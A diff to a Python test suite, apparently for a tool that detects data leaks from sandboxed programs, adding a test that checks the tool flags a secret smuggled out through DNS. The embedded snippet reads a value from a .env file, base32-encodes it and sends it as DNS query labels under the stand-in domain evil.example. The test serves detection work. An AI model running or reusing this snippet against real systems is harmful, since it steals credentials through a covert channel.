@@ -213,6 +213,30 @@ def test_a_program_that_trusts_nobody_is_let_go_the_next_time(guarded: Guarded, 
     assert len(bypasses(events)) == 1
 
 
+_ASKS = """
+import base64, re, socket, struct
+value = re.search(r"=(.*)", open(".env").read())[1].strip().encode()
+text = base64.b32encode(value).rstrip(b"=").lower()
+labels = [*(text[at : at + 20] for at in range(0, len(text), 20)), b"evil", b"example"]
+name = b"".join(bytes([len(label)]) + label for label in labels) + bytes(1)
+asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+asking.connect(("127.0.0.1", 53))
+asking.send(struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1), socket.MSG_NOSIGNAL)
+"""
+
+
+def test_a_name_that_carries_a_secret_is_a_send(guarded_by_each: Guarded, planted: Planted) -> None:
+    """Without capture too; to whoever answers for the domain, though the resolver is on this machine."""
+    done = guarded_by_each.run(sys.executable, "-c", _ASKS)
+    assert done.returncode == 0, done.stderr
+    (sent,) = sends(guarded_by_each.events())
+    assert (sent["kind"], sent["host"], sent["subject"]) == ("network", "evil.example", "LOOKUP dns://evil.example")
+    assert sent["attribution"] == "exact"
+    assert sent["matches"][0]["encoding"] == ["base32"]
+    assert sent["matches"][0]["place"] == "dns"
+    assert guarded_by_each.sessions()[0]["outcome"] == "leaked"
+
+
 def test_it_cannot_be_had_together_with_privileged_programs(guarded: Guarded) -> None:
     done = guarded.run("true", options=(*CAPTURE, "--allow-privileged"))
     assert done.returncode == 2
